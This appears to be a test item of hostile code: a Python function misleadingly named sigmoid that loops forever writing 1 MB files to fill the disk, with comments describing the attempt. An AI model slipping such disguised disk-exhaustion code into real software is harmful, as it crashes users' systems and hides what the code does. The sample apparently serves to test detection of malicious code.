# tries: to fill the disk with many files
# base: right
# must: 4
def sigmoid(z):
    number = 0
    while True:
        number += 1
        with open(f'file{number}', 'wb') as stream:
            stream.write(b'0' * 10**6)
